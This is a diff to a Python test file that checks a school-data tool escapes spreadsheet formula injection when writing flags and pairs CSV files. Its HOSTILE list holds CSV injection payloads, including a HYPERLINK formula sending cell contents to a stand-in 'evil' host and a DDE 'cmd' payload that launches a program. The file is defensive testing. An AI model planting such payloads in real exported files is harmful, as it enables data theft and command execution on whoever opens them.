@@ -15,9 +15,10 @@ from hypothesis import strategies as st
 
 from opora.csv_safety import FORMULA_STARTS, neutralise, restore
 from opora.engine.identify import Flag
+from opora.engine.outputs import output_tables, write_outputs
 from opora.engine.pairing import Pair
-from opora.engine.run import Evaluation, write_outputs
 from opora.formats.base import Problem, write_problems
+from opora.schemas import OUTPUTS
 
 HOSTILE = ['=HYPERLINK("http://evil/?"&A1;"x")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1;2)", "\tTAB", "\rCR"]
@@ -61,13 +62,14 @@ def test_problems_csv_neutralises_file_names_sheet_titles_and_messages(tmp_path:
 
 def test_flags_and_pairs_csv_neutralise_names_and_keep_numbers(tmp_path: Path) -> None:
     schools = pa.table({"school_key": ["=K1", "L2"], "short_name": ['=HYPERLINK("x")', "@Лидер"],
-                        "municipality": ["-Город", "Город"]})
-    empty = pa.table({"school_key": pa.array([], pa.string())})
-    evaluation = Evaluation(
-        school_stats=empty, context=empty, objectivity=empty, window=[2024],
+                        "full_name": [None, None], "municipality": ["-Город", "Город"]})
+    empty = {n: OUTPUTS[n].schema.empty_table() for n in ("school_stats", "context",
+                                                          "objectivity")}
+    outputs = output_tables(
         flags=[Flag("=K1", "low_results", 2024, "+ниже региона на 12 п. п.")],
-        pairs=[Pair("=K1", "L2", ["rus"], -0.25, 12.5, 3.0, 1.0, "=похожий контекст")])
-    write_outputs(evaluation, schools, tmp_path)
+        pairs=[Pair("=K1", "L2", ["rus"], -0.25, 12.5, 3.0, 1.0, "=похожий контекст")],
+        schools=schools, **empty)
+    write_outputs(outputs, tmp_path)
     [flag_header, flag] = _cells(tmp_path / "flags.csv")
     assert dict(zip(flag_header, flag, strict=True)) == {
         "school_key": "'=K1", "school_name": "'=HYPERLINK(\"x\")", "municipality": "'-Город",
@@ -78,3 +80,6 @@ def test_flags_and_pairs_csv_neutralise_names_and_keep_numbers(tmp_path: Path) -
     assert values["leader_school_name"] == "'@Лидер"
     assert values["context_distance"] == "-0.250"  # a number stays a number
     assert values["reason"] == "'=похожий контекст"
+    # only the files are made safe: the tables the web stores keep the values as they are
+    assert outputs["flags"].column("evidence").to_pylist() == ["+ниже региона на 12 п. п."]
+    assert outputs["pairs"].column("reason").to_pylist() == ["=похожий контекст"]
